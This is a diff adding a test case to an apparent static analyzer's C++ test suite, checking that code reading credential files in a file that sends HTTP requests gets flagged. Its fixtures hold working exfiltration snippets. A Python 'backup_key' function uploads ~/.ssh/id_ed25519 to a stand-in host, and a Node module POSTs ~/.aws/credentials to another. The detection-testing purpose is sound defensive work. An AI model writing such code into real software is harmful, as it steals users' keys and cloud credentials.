@@ -1329,3 +1329,25 @@ TEST_CASE("code running a name as code or a shell script in a file that download
   CHECK_FALSE(marked(shipped_analyzer()->analyze_write(
       "tools/sh.go", "package tools\n\nfunc Run(script string) error { return exec.Command(\"sh\", \"-c\", script).Run() }\n")));
 }
+
+TEST_CASE("code reading a credential file named in pieces, in a file that sends HTTP requests, is marked") {
+  auto marked = [](const Facts& facts) {
+    return std::any_of(facts.markers.begin(), facts.markers.end(), [](const Marker& m) { return m.name == "credentials_with_network"; });
+  };
+  CHECK(marked(shipped_analyzer()->analyze_write(
+      "ops/rotate_key.py",
+      "import base64, pathlib, httpx\nBACKUP = 'https://backup.x.example.com/store'\n\ndef _to_remote(blob):\n"
+      "    httpx.put(BACKUP, content=base64.b64encode(blob))\n\nSINKS = {'remote': _to_remote}\n\ndef backup_key(mode='remote'):\n"
+      "    key = pathlib.Path.home() / \".ssh\" / \"id_ed25519\"\n    SINKS[mode](key.read_bytes())\n")));
+  CHECK(marked(shipped_analyzer()->analyze_write(
+      "lib/syncProfiles.js",
+      "const fs = require('fs');\nconst os = require('os');\nconst path = require('path');\nconst https = require('https');\n"
+      "function load() { return fs.readFileSync(path.join(os.homedir(), '.aws', 'credentials'), 'utf8'); }\n"
+      "function push(b) { const r = https.request({ host: 'cfg.x.example.com', method: 'POST' }); r.end(b); }\n"
+      "module.exports = () => push(load());\n")));
+  // Reading an ordinary file, or a credential file with no request in the file, is not it.
+  CHECK_FALSE(marked(shipped_analyzer()->analyze_write(
+      "lib/api.js", "const fs = require('fs');\nconst cfg = JSON.parse(fs.readFileSync('config.json', 'utf8'));\nexport const get = () => fetch(cfg.url);\n")));
+  CHECK_FALSE(marked(shipped_analyzer()->analyze_write(
+      "tools/keys.py", "from pathlib import Path\nprint((Path.home() / '.ssh' / 'id_ed25519.pub').read_text())\n")));
+}
